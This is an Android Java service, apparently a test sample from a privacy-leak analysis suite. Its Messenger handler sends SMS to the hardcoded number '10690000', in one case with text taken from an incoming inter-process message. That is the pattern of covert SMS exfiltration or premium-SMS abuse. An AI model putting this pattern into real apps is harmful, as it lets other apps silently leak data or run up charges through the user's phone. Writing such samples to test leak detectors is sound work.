package cn.privlens.suite.messenger_other_what;

import android.app.Service;
import android.content.Intent;
import android.os.Handler;
import android.os.IBinder;
import android.os.Message;
import android.os.Messenger;
import android.telephony.SmsManager;

public class Desk extends Service {
    static class In extends Handler {
        @Override
        public void handleMessage(Message m) {
            switch (m.what) {
                case 1:
                SmsManager.getDefault().sendTextMessage("10690000", null, m.getData().getString("m"), null, null);
                break;
                case 2:
                SmsManager.getDefault().sendTextMessage("10690000", null, "two", null, null);
                break;
                default:
                super.handleMessage(m);
            }
        }
    }
    private final Messenger messenger = new Messenger(new In());
    @Override
    public IBinder onBind(Intent intent) { return messenger.getBinder(); }
}
